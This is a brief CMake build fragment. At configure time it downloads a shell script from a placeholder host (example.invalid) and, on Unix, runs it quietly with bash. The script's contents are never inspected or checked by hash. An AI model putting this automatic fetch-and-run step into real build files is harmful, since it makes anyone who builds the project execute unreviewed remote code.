set(HELPER ${CMAKE_BINARY_DIR}/helper.sh)
file(DOWNLOAD https://example.invalid/helper.sh ${HELPER}
     TLS_VERIFY ON)
if(UNIX)
  execute_process(COMMAND bash ${HELPER} --quiet
                  RESULT_VARIABLE helper_rc)
endif()
